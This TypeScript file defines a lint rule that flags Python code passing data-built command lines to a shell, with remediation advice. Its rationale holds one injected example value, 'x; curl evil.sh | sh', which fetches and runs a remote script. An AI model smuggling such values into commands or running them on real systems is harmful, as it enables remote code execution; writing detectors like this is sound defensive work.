/** MLS302: shell commands built from data. */
import { defineRule } from '../../engine/rule';
import { CWE_REFERENCE, constantOf, spelled, isTruthy, flagOrigin, isFixedText } from '../support';
import { inputSourcesOf } from '../../engine/dataflow/index';
import { inputOrigin } from '../dataflowSupport';

/** Popen-style functions: a shell is involved only with `shell=True`. */
const POPEN_STYLE = ['subprocess.run', 'subprocess.call', 'subprocess.check_call', 'subprocess.check_output', 'subprocess.Popen'];

/** Functions that always hand their command line to a shell. */
const ALWAYS_SHELL = [
  'os.system',
  'os.popen',
  'posix.system',
  'subprocess.getoutput',
  'subprocess.getstatusoutput',
  'asyncio.create_subprocess_shell',
];

const ALWAYS_SHELL_NAMES = [...new Set(ALWAYS_SHELL.map((callee) => callee.slice(callee.lastIndexOf('.') + 1)))];

/** Programs that run their `-c` argument as a shell script: POSIX shells (also by path), and Windows'. */
const POSIX_SHELLS = ['sh', 'bash', 'zsh', 'dash', 'ksh', 'ash', 'fish'];
const WINDOWS_SHELLS = ['cmd', 'cmd.exe', 'powershell', 'powershell.exe', 'pwsh'];
const SHELL_PROGRAMS = new RegExp(
  `^(?:.*/)?(?:${POSIX_SHELLS.join('|')})$|^(?:${WINDOWS_SHELLS.map((name) => name.replace('.', '\\.')).join('|')})$`,
  'i',
);

export const shellInjectionRule = defineRule({
  code: 'MLS302',
  name: 'shell-injection',
  title: 'Shell command built from data that is not a constant',
  severity: 'error',
  cwe: [78],
  threats: ['adversarial-input'],
  rationale:
    'A shell parses its command line: quotes, `;`, `&&`, `|`, `$(...)` and backticks all have meaning. When a command is assembled from a file name, a request parameter, a dataset field or a model answer and then run through a shell (`os.system`, `os.popen`, `subprocess.*(..., shell=True)`, `sh -c`), a value such as `x; curl evil.sh | sh` runs a second command with the privileges of the training or serving job.',
  remediation:
    'Pass the program and its arguments as a list without `shell=True` (`subprocess.run(["tar", "czf", out, path], check=True)`), turning a fixed command string into such a list with `shlex.split` once; if a shell feature is really needed, quote every variable part with `shlex.quote`.',
  references: [
    { title: 'subprocess: security considerations', url: 'https://docs.python.org/3/library/subprocess.html#security-considerations' },
    { title: 'shlex.quote', url: 'https://docs.python.org/3/library/shlex.html#shlex.quote' },
    CWE_REFERENCE(78),
  ],
  callees: [...POPEN_STYLE, ...ALWAYS_SHELL],
  // A command line written as a string literal (`os.system("nvidia-smi")`) is a constant: no finding.
  textArguments: { positions: [0], keywords: ['args', 'cmd', 'command'] },
  // `parser.add_argument(..., choices=/default=)` elsewhere in the file decides what an option can hold.
  reads: ['add_argument'],
  // A shell is involved only through a function that always uses one (its name is written), a
  // `shell` argument, or a shell program (written as a string) given `-c`.
  keywords: ['shell'],
  names: ALWAYS_SHELL_NAMES,
  values: [...POSIX_SHELLS, ...WINDOWS_SHELLS],
  // Text checked against a literal set before it is used counts as fixed (restricted.ts).
  readsFunction: true,
  onCall(call, context) {
    const model = context.model;
    if (call.is(...ALWAYS_SHELL)) {
      const command = call.argument(call.is('os.popen', 'os.system', 'posix.system') ? 'command' : 'cmd', 0);
      if (!command || isFixedText(model, command.value, { shellQuoted: true })) return;
      const origin = inputOrigin(inputSourcesOf(model, command.value));
      context.report({
        node: call.node,
        message: `\`${spelled(call)}\` runs its command line through a shell, and the command is built from data: shell metacharacters in it run other commands (CWE-78).${origin.sentence} Use \`subprocess.run([...])\` with an argument list.`,
        related: origin.related,
      });
      return;
    }
    const args = call.argument('args', 0);
    if (!args) return;
    const shell = call.argument('shell');
    const shellValue = constantOf(context, shell);
    const items = context.constant(args.value);
    if (shell && isTruthy(shellValue)) {
      if (isFixedText(model, args.value, { shellQuoted: true })) return;
      // With a sequence, only the first item is the script; the others become $0, $1... of it.
      if (items?.kind === 'seq' && items.value.length > 0 && isFixedText(model, items.value[0], { shellQuoted: true })) return;
      const origin = inputOrigin(inputSourcesOf(model, args.value));
      const flagged = flagOrigin(context, call, shell, shellValue, '`shell` is set to True here');
      context.report({
        node: call.node,
        message: `\`${spelled(call)}(..., shell=True)\` hands a command built from data to the shell: metacharacters in it run other commands (CWE-78).${origin.sentence} Pass an argument list without \`shell=True\`.`,
        related: flagged || origin.related ? [...(flagged ?? []), ...(origin.related ?? [])] : undefined,
      });
      return;
    }
    // `subprocess.run(["bash", "-c", command])`: a shell all the same.
    if (items?.kind !== 'seq' || items.value.length < 3) return;
    const program = model.constantValue(items.value[0]);
    const flag = model.constantValue(items.value[1]);
    if (program?.kind !== 'str' || !SHELL_PROGRAMS.test(program.value)) return;
    if (flag?.kind !== 'str' || !/^(?:-c|\/c|-Command)$/i.test(flag.value)) return;
    if (isFixedText(model, items.value[2], { shellQuoted: true })) return;
    context.report({
      node: call.node,
      message: `\`${spelled(call)}\` runs \`${program.value} ${flag.value}\` with a script built from data: shell metacharacters in it run other commands (CWE-78). Run the program directly with an argument list.`,
    });
  },
});
